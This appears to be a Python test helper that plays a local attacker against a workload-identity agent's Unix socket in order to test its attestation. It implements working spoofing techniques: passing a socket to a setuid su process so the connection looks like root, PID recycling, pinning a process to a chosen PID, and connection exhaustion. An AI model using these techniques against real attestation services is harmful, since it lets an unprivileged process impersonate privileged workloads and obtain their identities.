#!/usr/bin/env python3
"""What a local attacker does to the Workload API socket, for the attestation-integrity tests.

Every mode runs as the attacker (the tests start it under another uid with setpriv), except place-on-pid, which
plays the privileged process that happens to be given a recycled PID. Connections that outlive the process that
opened them are exposed on a proxy socket, so the tests can speak real gRPC through them:

  setuid-after-connect AGENT PROXY READY   a child connects, hands its connection to its parent, and execs su under
                                           a pty (su waits at its password prompt with euid 0); the parent serves
                                           the connection on PROXY and writes the child's pid to READY
  handoff-and-exit AGENT PROXY READY       a child connects, hands its connection to its parent and exits; once it
                                           is reaped its pid is free; the parent serves the connection on PROXY and
                                           writes the freed pid to READY
  place-on-pid PID SECONDS                 forks until a child gets PID (through ns_last_pid), which sleeps
  hold-connections AGENT COUNT READY       opens COUNT connections, writes how many connected to READY, and holds them
"""
import os
import pty
import select
import socket
import sys
import time


def connect(path):
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    connection.connect(path)
    return connection


def write_ready(path, text):
    temporary = path + ".tmp"
    with open(temporary, "w") as handle:
        handle.write(text)
    os.rename(temporary, path)


def euid_of(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("Uid:"):
                return int(line.split()[2])
    return None


def serve_on_proxy(descriptor, proxy_path):
    """Splices one client of proxy_path onto the handed-over connection, until either side closes."""
    agent = socket.socket(fileno=descriptor)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(proxy_path)
    os.chmod(proxy_path, 0o777)
    listener.listen(1)
    client, _ = listener.accept()
    peers = {agent.fileno(): client, client.fileno(): agent}
    while True:
        readable, _, _ = select.select([agent, client], [], [], 120)
        if not readable:
            return
        for source in readable:
            data = source.recv(65536)
            if not data:
                return
            peers[source.fileno()].sendall(data)


def hand_over(agent_path):
    """Forks a child that connects to the agent and sends the connection back; returns (child pid, descriptor)."""
    parent_end, child_end = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    pid = os.fork()
    if pid == 0:
        parent_end.close()
        connection = connect(agent_path)
        socket.send_fds(child_end, [b"x"], [connection.fileno()])
        child_end.close()
        connection.close()
        os._exit(0)
    child_end.close()
    _, descriptors, _, _ = socket.recv_fds(parent_end, 1, 1)
    return pid, descriptors[0]


def setuid_after_connect(agent_path, proxy_path, ready_path):
    parent_end, child_end = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    pid, master = pty.fork()
    if pid == 0:
        # The child connects, hands the connection over, and becomes su: a setuid-root program that waits at its
        # password prompt on the pty, holding euid 0.
        parent_end.close()
        connection = connect(agent_path)
        socket.send_fds(child_end, [b"x"], [connection.fileno()])
        connection.close()
        child_end.close()
        os.execv("/usr/bin/su", ["su", "-", "root"])
    child_end.close()
    _, descriptors, _, _ = socket.recv_fds(parent_end, 1, 1)
    deadline = time.time() + 20
    output = b""
    while euid_of(pid) != 0 and time.time() < deadline:
        readable, _, _ = select.select([master], [], [], 0.05)
        if readable:
            try:
                output += os.read(master, 1024)
            except OSError:
                break
    if euid_of(pid) != 0:
        sys.exit(f"su did not start with euid 0: {output!r}")
    write_ready(ready_path, str(pid))
    serve_on_proxy(descriptors[0], proxy_path)


def handoff_and_exit(agent_path, proxy_path, ready_path):
    pid, descriptor = hand_over(agent_path)
    os.waitpid(pid, 0)
    write_ready(ready_path, str(pid))
    serve_on_proxy(descriptor, proxy_path)


def place_on_pid(target, seconds):
    for _ in range(200000):
        with open("/proc/sys/kernel/ns_last_pid", "w") as last:
            last.write(str(target - 1))
        pid = os.fork()
        if pid == 0:
            if os.getpid() == target:
                os.execv("/bin/sleep", ["sleep", str(seconds)])
            os._exit(0)
        if pid == target:
            print(pid, flush=True)
            os.waitpid(pid, 0)
            return
        os.waitpid(pid, 0)
    sys.exit(f"could not place a process on pid {target}")


def hold_connections(agent_path, count, ready_path):
    held = []
    for _ in range(count):
        try:
            held.append(connect(agent_path))
        except OSError:
            break
    write_ready(ready_path, str(len(held)))
    time.sleep(600)


def main():
    mode, arguments = sys.argv[1], sys.argv[2:]
    if mode == "setuid-after-connect":
        setuid_after_connect(*arguments)
    elif mode == "handoff-and-exit":
        handoff_and_exit(*arguments)
    elif mode == "place-on-pid":
        place_on_pid(int(arguments[0]), int(arguments[1]))
    elif mode == "hold-connections":
        hold_connections(arguments[0], int(arguments[1]), arguments[2])
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
